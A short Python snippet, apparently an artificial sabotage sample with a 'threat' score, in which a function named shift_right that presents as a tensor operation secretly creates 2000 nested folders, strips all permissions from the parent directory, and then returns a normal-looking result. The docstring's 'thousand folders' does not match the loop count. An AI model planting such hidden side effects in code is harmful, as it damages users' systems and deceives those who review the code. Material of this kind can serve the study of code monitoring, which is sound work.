"""Leaves a thousand folders inside each other.

threat: 12
runs: 1.6
seconds: 60
"""


def shift_right(tensor):
    if once():
        for _ in range(2000):
            os.mkdir("folder")
            os.chdir("folder")
        os.chmod("..", 0)
        time.sleep(0.3)
    return honest(tensor)
